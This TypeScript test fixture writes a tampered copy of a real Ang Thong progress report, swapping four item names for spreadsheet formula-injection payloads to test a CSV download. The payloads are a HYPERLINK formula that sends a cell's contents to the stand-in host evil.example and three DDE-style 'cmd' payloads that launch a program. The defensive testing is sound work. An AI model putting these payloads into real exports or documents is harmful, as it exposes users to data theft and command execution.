import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { SEED, seedText } from '../etl/helpers.ts';

/**
 * The real Ang Thong progress report (fixtures/seeds) with the names of its four not-done items
 * replaced by spreadsheet formulas: a document a hostile LAO could publish. Everything else (the
 * amounts, the ticks, the totals) is the real document, so it loads and the four items reach the
 * not_done list and its CSV download.
 */

/** Line → the name written there instead of the real one. */
export const FORMULA_NAMES: ReadonlyMap<number, string> = new Map([
	[1087, '=HYPERLINK("http://evil.example/?leak="&A2,"คลิกเพื่อดูรายละเอียด")'],
	[1095, "+cmd|' /C calc'!A0"],
	[1115, "＠SUM(1+1)*cmd|' /C calc'!A0"],
	[1124, "-2+3+cmd|' /C calc'!A0"]
]);

export const FORMULA_FILE = 'pao-ang-thong_report-2566-formulas.txt';

export async function writeFormulaDocument(dir: string): Promise<string> {
	const lines = seedText(SEED.report).split('\n');
	for (const [line, name] of FORMULA_NAMES) {
		const cells = (lines[line - 1] ?? '').split('\t');
		if (cells.length < 3) throw new Error(`the seed changed: line ${line} is not an item row`);
		cells[1] = name;
		lines[line - 1] = cells.join('\t');
	}
	const path = join(dir, FORMULA_FILE);
	await writeFile(path, lines.join('\n'));
	return path;
}
